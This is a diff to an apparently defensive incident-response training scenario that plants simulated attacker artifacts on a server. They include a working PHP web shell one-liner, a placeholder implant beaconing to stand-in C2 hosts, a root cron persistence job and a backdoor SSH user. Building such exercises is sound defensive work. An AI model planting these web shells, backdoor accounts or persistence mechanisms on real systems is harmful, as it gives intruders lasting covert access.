@@ -5,7 +5,7 @@ import type { Credentials } from "../kit/aws.ts";
 import { fillDataBucket } from "../kit/data.ts";
 import { defineScenario } from "../kit/define.ts";
 import { giveAddress, pickFleetMember, zone } from "../kit/fleet.ts";
-import type { Behaviour, Connection, ProcessHandle, Stage } from "../kit/stage.ts";
+import type { Behaviour, Connection, Foothold, ProcessHandle, Stage } from "../kit/stage.ts";
 import { fleetVariables } from "../kit/fleet-variables.ts";
 import { variableOf } from "../kit/variation.ts";
 import { criteria, MARKER } from "./criteria.ts";
@@ -16,6 +16,12 @@ const C2 = { ip: "203.0.113.66", port: 443, name: "cdn-metrics.example" };
 const SECOND_C2 = { ip: "203.0.113.71", port: 8443, name: "static-assets.example" };
 const LAIR = { ip: "198.51.100.213", userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali" };
 const WEB_SHELL = "/static/.thumb.php";
+/** A user of its own, with a key. */
+const BACKDOOR = {
+  user: "svc-backup",
+  authorizedKeys: "/home/svc-backup/.ssh/authorized_keys",
+  key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMSL9oS4MnY5PggBh3n3FW6lumVSSH2HU+0GcrWhhShF svc@lair",
+};
 
 /** Whether the server can be reached past the load balancer, too. */
 const [address, addressOf] = variableOf("Elastic IP", {
@@ -107,14 +113,18 @@ account while you work.`,
       files: {
         [`/srv/web${WEB_SHELL}`]:
           "<?php if (md5($_GET['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') system($_GET['c']); ?>\n",
-        "/usr/local/bin/kworkerd": `\u007fELF kworkerd implant\nconfig: ${C2.name}:${C2.port} interval=15 jitter=0.3\n`,
-        "/tmp/.X11-unix/.cache/run.sh": `#!/bin/sh\nnohup /usr/local/bin/kworkerd -q >/dev/null 2>&1 &\n`,
+        "/usr/local/bin/kworkerd": {
+          content: `\u007fELF kworkerd implant\nconfig: ${C2.name}:${C2.port} interval=15 jitter=0.3\n`,
+          mode: 0o755,
+        },
+        "/tmp/.X11-unix/.cache/run.sh": {
+          content: `#!/bin/sh\nnohup /usr/local/bin/kworkerd -q >/dev/null 2>&1 &\n`,
+          mode: 0o755,
+        },
         "/etc/ssh/sshd_config": "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nUsePAM yes\n",
-        "/home/svc-backup/.ssh/authorized_keys":
-          "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJtK3e2fQm0c9bV7z svc@lair\n",
+        [BACKDOOR.authorizedKeys]: { content: `${BACKDOOR.key}\n`, owner: BACKDOOR.user, mode: 0o600 },
       },
-      users: [{ name: "svc-backup", uid: 1007, shell: "/bin/bash" }],
-      logins: [{ user: "svc-backup", from: LAIR.ip, minutesAgo: 9, minutes: 6 }],
+      users: [{ name: BACKDOOR.user, uid: 1007, shell: "/bin/bash" }],
       cron: [{ user: "root", line: "*/5 * * * * /tmp/.X11-unix/.cache/run.sh" }],
       memory: [`${C2.name}:${C2.port}`, C2.ip, "kworkerd-session-key=7c1d9f52e0b84a6e"],
     });
@@ -162,6 +172,7 @@ account while you work.`,
           return { what: `GetObject ${wanted.Key}`, bytes: got.ContentLength ?? 0 };
         },
       }),
+      backdoorLogin(foothold, async () => (await process.alive()) && (await reaches(connection))),
       {
         name: "web-shell",
         everySeconds: 45,
@@ -247,7 +258,7 @@ account while you work.`,
 
   debrief: {
     story:
-      "The intruder came through the shop's search (a vulnerable logging library), left a web shell, an implant that beacons every 15 seconds, a cron job that brings it back, an account with a key, and took the instance role's credentials from the metadata service, which still answered version 1. From then on there were three ways in: the implant's connection, the web shell behind the load balancer, and a session that works from anywhere.",
+      "The intruder came through the shop's search (a vulnerable logging library), left a web shell, an implant that beacons every 15 seconds, a cron job that brings it back, a user with a key that it logs in as through the implant's connection, and took the instance role's credentials from the metadata service, which still answered version 1. From then on there were three ways in: the implant's connection, the web shell behind the load balancer, and a session that works from anywhere.",
     rulings: [
       {
         topic: "Stop first, or isolate first?",
@@ -302,6 +313,26 @@ account while you work.`,
     practiseNext: ["stolen-role-credentials", "crypto-mining", "stop-or-isolate"],
   },
 });
+
+/**
+ * The new user is tried, once: nothing but the load balancer reaches the server, so that SSH comes through the
+ * implant's connection, and for sshd from the machine itself.
+ *
+ * @param tunnel whether the implant's connection stands
+ */
+function backdoorLogin(foothold: Foothold, tunnel: () => Promise<boolean>): Behaviour {
+  const { user, key, authorizedKeys } = BACKDOOR;
+  let isTried = false;
+  return {
+    name: "backdoor-login",
+    everySeconds: 240,
+    async act() {
+      if (isTried || !(await tunnel()) || !(await foothold.read(authorizedKeys))?.includes(key)) return;
+      isTried = true;
+      await foothold.plant({ logins: [{ user, from: "127.0.0.1", minutesAgo: 3, minutes: 2.5 }] });
+    },
+  };
+}
 
 const reaches = async (connection: Connection | undefined): Promise<boolean> =>
   (await connection?.send(200, 200)) ?? false;
